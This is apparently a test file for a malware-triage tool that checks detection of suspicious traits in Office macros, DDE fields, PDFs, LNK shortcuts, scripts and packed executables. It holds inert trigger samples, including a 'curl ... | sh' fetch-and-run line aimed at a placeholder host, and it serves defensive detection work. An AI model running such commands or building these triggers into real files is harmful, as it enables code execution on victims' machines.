import assert from 'node:assert/strict';
import { test } from 'node:test';
import { buildElf } from './elf/test-kit.ts';
import { buildLnk } from './lnk/test-kit.ts';
import { buildOle } from './ole/test-kit.ts';
import { buildPackage, relationships } from './ooxml/test-kit.ts';
import { buildPe } from './pe/test-kit.ts';
import { lookInto } from './test-kit.ts';
import { vbaStreams } from './vba/test-kit.ts';

type Input = Parameters<typeof lookInto>;

async function codesOf(...[format, bytes]: Input): Promise<string[]> {
  return (await lookInto(format, bytes)).structure.traits.map(({ code }) => code);
}

const macro = (code: string) =>
  buildOle({ WordDocument: Buffer.alloc(64), ...vbaStreams('Macros/', { M: code }) });
const pdf = (object: string) => `%PDF-1.7\n1 0 obj ${object} endobj\ntrailer << >>\n%%EOF`;

const telling: readonly (readonly [code: string, Input[0], Input[1]])[] = [
  ['macro-acts-alone', 'ole', macro('Sub AutoOpen()\r\nShell "calc"\r\nEnd Sub')],
  [
    'macro-acts',
    'ole',
    macro('Sub Go()\r\nShell "calc"\r\nCreateObject("WScript.Shell")\r\nEnd Sub'),
  ],
  ['dde', 'ole', buildOle({ WordDocument: Buffer.from(`${'\0'.repeat(40)}\x13DDEAUTO cmd\x15`) })],
  [
    'remote-template',
    'ooxml',
    buildPackage({
      'word/a.xml': '',
      'word/_rels/a.rels': relationships({ type: 'attachedTemplate', target: 'https://a.test/t' }),
    }),
  ],
  ['launch', 'pdf', pdf('<< /S /Launch /F (cmd.exe) >>')],
  ['hidden-names', 'pdf', pdf('<< /S /J#61vaScript /JS (x) >>')],
  ['starts-interpreter', 'lnk', buildLnk({ localPath: 'C:\\cmd.exe', arguments: '/c calc' })],
  [
    'runs-hidden-text',
    'javascript',
    `eval(atob("${Buffer.from('WScript.Echo(1) // long').toString('base64')}"))`,
  ],
  ['runs-download', 'shell', 'curl -s http://a.test/x | sh\n'],
  ['packed', 'pe', buildPe({ codeName: 'UPX0' })],
];

for (const [code, format, bytes] of telling) {
  test(`${format}: ${code}`, async () => {
    const codes = await codesOf(format, bytes);
    assert(codes.includes(code), codes.join());
  });
}

test('harmless files of each kind have none that would make them suspicious', async () => {
  const harmless: readonly Input[] = [
    ['pe', buildPe({ imports: { 'KERNEL32.dll': ['Sleep'] } })],
    ['elf', buildElf()],
    ['ole', macro('Sub Total()\r\nRange("A1").Value = 1\r\nEnd Sub')],
    [
      'ooxml',
      buildPackage({
        'word/_rels/a.rels': relationships({ type: 'hyperlink', target: 'https://a.test' }),
      }),
    ],
    ['pdf', pdf('<< /S /URI /URI (https://a.test) >>')],
    ['html', '<script>document.title = "a" + "b"</script><form action="/x"></form>'],
    ['javascript', 'const found = /a/.exec(text); client.execute("select " + "1");'],
    ['lnk', buildLnk({ localPath: 'C:\\Program Files\\Word\\word.exe' })],
  ];
  for (const [format, bytes] of harmless) {
    const { structure } = await lookInto(format, bytes);
    const left = structure.traits.reduce((rest, { weight }) => rest * (1 - weight / 100), 1);
    assert(left > 0.7, `${format}: ${structure.traits.map(({ code }) => code)}`);
  }
});
